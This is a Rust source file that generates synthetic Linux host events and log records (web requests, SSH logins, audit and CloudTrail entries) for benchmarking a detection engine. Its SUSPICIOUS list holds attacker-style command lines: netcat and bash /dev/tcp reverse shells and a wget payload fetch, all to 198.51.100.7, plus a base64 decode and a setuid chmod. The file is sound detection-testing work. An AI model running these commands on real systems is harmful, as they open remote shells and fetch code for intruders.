//! Events of an ordinary Linux host, made by chance that is passed in: for benches and comparisons, never for cases.

use crate::{Engine, Scratch, cases};
use base::{Random, Result};
use record::{Event, Kind};

/// Programs of shells, builds, services and package managers.
const PROGRAMS: &[(&str, &[&str])] = &[
    ("/usr/bin/bash", &["bash -c make -j4 all", "-bash", "bash /usr/bin/ldd /usr/bin/git"]),
    ("/usr/bin/dash", &["sh -c test -f Makefile && echo yes", "/bin/sh /usr/sbin/invoke-rc.d cron reload"]),
    ("/usr/bin/gcc", &["gcc -O2 -Wall -Iinclude -c src/main.c -o build/main.o -MMD -MP -MF build/main.d"]),
    (
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        &["/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -I include src/lexer.c -O2"],
    ),
    ("/usr/bin/git", &["git status --porcelain", "git fetch --quiet origin", "git rev-parse HEAD"]),
    ("/usr/bin/grep", &["grep -rn needle src", "grep --color=auto -i error /var/log/syslog"]),
    ("/usr/bin/python3.11", &["python3 -m http.server 8000", "/usr/bin/python3 /usr/bin/unattended-upgrade"]),
    ("/usr/bin/systemctl", &["systemctl status nginx", "systemctl daemon-reload"]),
    ("/usr/bin/apt-get", &["apt-get install -y curl", "apt-get update -qq"]),
    ("/usr/bin/curl", &["curl -fsSL https://example.com/health", "curl -s http://127.0.0.1:8080/metrics"]),
    ("/usr/bin/cat", &["cat /etc/os-release", "cat /proc/meminfo"]),
    ("/usr/bin/find", &["find . -name *.rs -newer target/stamp"]),
    ("/usr/sbin/cron", &["/usr/sbin/CRON -f -P"]),
    ("/usr/bin/tar", &["tar -xzf release.tar.gz -C /opt/app"]),
    ("/usr/bin/ssh", &["ssh -o BatchMode=yes build@ci uptime"]),
    ("/usr/bin/sed", &["sed -i s/foo/bar/g config.toml"]),
];
const PARENTS: &[&str] = &["/usr/bin/bash", "/usr/bin/make", "/usr/lib/systemd/systemd", "/usr/sbin/sshd"];
const FILES: &[&str] = &[
    "/home/dev/project/target/debug/deps/app.o",
    "/var/log/nginx/access.log",
    "/tmp/cc8YQv3z.s",
    "/var/lib/dpkg/status-new",
    "/home/dev/.cache/pip/http/a/b/c",
    "/run/systemd/journal/streams/8:1234",
];
const NAMES: &[&str] = &["mirror.example.org", "github.com", "registry.example.net", "ntp.pool.example"];
const STEMS: &[&str] = &["/", "/index.html", "/api/v1/items", "/static/app.js", "/wp-login.php"];
const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
/// One command in this many is one that attackers use too.
const SUSPICIOUS_IN: u64 = 20;
const SUSPICIOUS: &[(&str, &str)] = &[
    ("/usr/bin/nc", "nc -e /bin/sh 198.51.100.7 4444"),
    ("/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"),
    ("/usr/bin/base64", "base64 -d /tmp/.x"),
    ("/usr/bin/chmod", "chmod u+s /tmp/sh"),
    ("/usr/bin/wget", "wget -q http://198.51.100.7/x.sh -O /tmp/x.sh"),
];

fn pick<T: Copy>(random: &dyn Random, from: &[T]) -> T {
    from[random.below(from.len() as u64) as usize]
}

/// Program starts, 5 % of them such as attackers make.
pub fn executions(random: &dyn Random, count: usize) -> Result<Vec<Event>> {
    (0..count).map(|number| execution(random, number)).collect()
}

/// A host's mixture: of ten events six about files, two program starts, one connection, one name asked for.
pub fn mixture(random: &dyn Random, count: usize) -> Result<Vec<Event>> {
    (0..count)
        .map(|number| match random.below(10) {
            0 | 1 => execution(random, number),
            2 => {
                let port = pick(random, &["443", "80", "22", "5432"]);
                let (exe, _) = pick(random, PROGRAMS);
                let fields = [("process.exe", exe), ("remote.ip", "203.0.113.9"), ("remote.port", port)];
                cases::event(Kind::Net, &fields)
            }
            3 => cases::event(Kind::Dns, &[("process.exe", "/usr/bin/curl"), ("dns.name", pick(random, NAMES))]),
            _ => {
                let (exe, commands) = pick(random, PROGRAMS);
                let op = pick(random, &["write", "create", "read", "rename", "unlink"]);
                let mut fields = vec![
                    ("process.exe", exe),
                    ("process.cmd_line", commands[0]),
                    ("file.op", op),
                    ("file.path", pick(random, FILES)),
                ];
                if op == "rename" {
                    fields.push(("file.target", pick(random, FILES)));
                }
                cases::event(Kind::File, &fields)
            }
        })
        .collect()
}

/// Records of logs: web requests, logins, audit records, calls of a cloud, syslog lines.
pub fn records(random: &dyn Random, count: usize) -> Vec<Event> {
    (0..count).map(|number| record(random, number)).collect()
}

fn record(random: &dyn Random, number: usize) -> Event {
    let (address, port) = (format!("203.0.113.{}", random.below(250)), (1024 + random.below(60_000)).to_string());
    let size = random.below(50_000).to_string();
    match random.below(6) {
        0 | 1 => {
            let (stem, query) = (pick(random, STEMS), format!("id={number}&page=2"));
            let message = format!("{address} - - \"GET {stem}?{query} HTTP/1.1\" 200 {size} \"-\" \"{AGENT}\"");
            let fields = [
                ("c-ip", address.as_str()),
                ("cs-method", "GET"),
                ("cs-uri-stem", stem),
                ("cs-uri-query", &query),
                ("cs-user-agent", AGENT),
                ("cs-referer", ""),
                ("sc-status", "200"),
                ("sc-bytes", &size),
            ];
            cases::log(pick(random, &["nginx", "apache"]), Some(&message), &fields)
        }
        2 => {
            let message = format!("Accepted publickey for dev from {address} port {port} ssh2");
            let fields = [("app", "sshd"), ("outcome", "accepted"), ("user", "dev"), ("src_ip", &address)];
            cases::log("sshd", Some(&message), &fields)
        }
        3 => {
            let (_, commands) = pick(random, PROGRAMS);
            let words: Vec<&str> = commands[0].split(' ').collect();
            let names: Vec<String> = (0..words.len()).map(|index| format!("a{index}")).collect();
            let mut fields = vec![("type", "EXECVE")];
            fields.extend(names.iter().map(String::as_str).zip(words.iter().copied()));
            let message = format!("type=EXECVE msg=audit(1700000000.{number}): {}", commands[0]);
            cases::log("auditd", Some(&message), &fields)
        }
        4 => {
            let fields = [
                ("eventSource", "s3.amazonaws.com"),
                ("eventName", pick(random, &["GetObject", "PutObject", "ListBuckets"])),
                ("userIdentity.type", "AssumedRole"),
                ("userIdentity.arn", "arn:aws:sts::123456789012:assumed-role/app/worker"),
                ("sourceIPAddress", &address),
                ("userAgent", "aws-sdk-go/1.44"),
                ("requestParameters.bucketName", "releases"),
                ("requestParameters.key", &size),
                ("awsRegion", "eu-central-1"),
            ];
            cases::log("cloudtrail", None, &fields)
        }
        _ => {
            let app = pick(random, &["systemd", "kernel", "NetworkManager", "dbus-daemon"]);
            let message = format!("{app}[{port}]: job {number} finished with result done");
            cases::log("syslog", Some(&message), &[("app", app), ("pid", &port)])
        }
    }
}

fn execution(random: &dyn Random, number: usize) -> Result<Event> {
    let (exe, command) = if random.below(SUSPICIOUS_IN) == 0 {
        pick(random, SUSPICIOUS)
    } else {
        let (exe, commands) = pick(random, PROGRAMS);
        (exe, pick(random, commands))
    };
    let unique = format!("{command} --run={number}");
    let parent = pick(random, PARENTS);
    let fields = [
        ("process.exe", exe),
        ("process.cmd_line", unique.as_str()),
        ("process.cwd", "/home/dev/project"),
        ("process.user", "dev"),
        ("process.uid", "1000"),
        ("parent.exe", parent),
        ("parent.cmd_line", "make -j4 all"),
        ("ancestors.exe", "/usr/bin/make\n/usr/bin/bash\n/usr/sbin/sshd\n/usr/lib/systemd/systemd"),
    ];
    cases::event(Kind::Exec, &fields)
}

/// Judges events again and again, for a bench that holds the clock; returns how many hits there were.
pub fn judge(engine: &Engine, events: &[Event], rounds: usize) -> u64 {
    let (mut scratch, mut hits, mut total) = (Scratch::new(), Vec::new(), 0);
    for _ in 0..rounds {
        for event in events {
            engine.evaluate(event, &mut scratch, &mut hits);
            total += hits.len() as u64;
        }
    }
    total
}
